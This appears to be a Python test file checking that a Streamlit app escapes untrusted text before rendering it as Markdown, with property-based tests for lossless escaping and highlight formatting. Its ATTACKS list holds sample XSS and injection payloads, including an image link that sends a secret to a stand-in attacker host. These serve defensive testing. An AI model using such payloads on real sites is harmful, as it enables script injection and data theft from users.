"""Untrusted text reaches Streamlit's Markdown only escaped (app_pages/_ui.py)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app_pages._ui import code, escape, highlighted
from services.desk.highlight import segments

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "[link](javascript:alert(1))",
    "![](http://attacker/?q=secret)",
    "$x$ and $$\\int$$",
    ":red[colour] :material/warning: **bold** `code` # heading",
    "<script>alert(1)</script>",
    "&lt;img&gt; www.attacker.example http://attacker/",
]
PUNCTUATION = set("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")


def unescape(markdown: str) -> str:
    return re.sub(r"\\(.)", r"\1", markdown.replace("  \n", "\n")).replace("\u00a0", " ")


def every_punctuation_is_escaped(markdown: str) -> bool:
    index = 0
    while index < len(markdown):
        char = markdown[index]
        if char == "\\":
            index += 2
            continue
        if char in PUNCTUATION:
            return False
        index += 1
    return True


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_in_documents_is_escaped_character_by_character(attack):
    markdown = escape(attack)
    assert every_punctuation_is_escaped(markdown)
    assert unescape(markdown) == attack


@settings(max_examples=80, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\r\xa0"), max_size=60))
def test_escaping_is_lossless_and_leaves_no_live_markup(text):
    markdown = escape(text)
    assert every_punctuation_is_escaped(markdown.replace("  \n", "\n"))
    assert unescape(markdown) == text


def test_indentation_does_not_turn_into_a_code_block():
    assert escape("    indented") == "\u00a0\u00a0\u00a0\u00a0indented"


def test_only_the_cited_span_is_wrapped_in_a_highlight_directive():
    body = "前文 $x$\n引用 <b>第一行</b>\n第二行 後文"
    start = body.index("引用")
    end = body.index(" 後文")
    markdown = highlighted(segments(body, [(start, end)]))
    assert markdown.startswith("前文 \\$x\\$  \n")
    assert (
        ":orange-background[引用 \\<b\\>第一行\\<\\/b\\>]  \n:orange-background[第二行]" in markdown
    )
    assert markdown.endswith(" 後文")
    assert markdown.count(":orange-background[") == 2


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("explicit_instructions", "`explicit_instructions`"),
        ("mem-3aabe53f", "`mem-3aabe53f`"),
        ("a`b", "``a`b``"),
        ("`x`", "`` `x` ``"),
        ("two\nlines", "`two lines`"),
    ],
)
def test_inline_code_shows_the_value_literally_without_escapes(value, shown):
    assert code(value) == shown
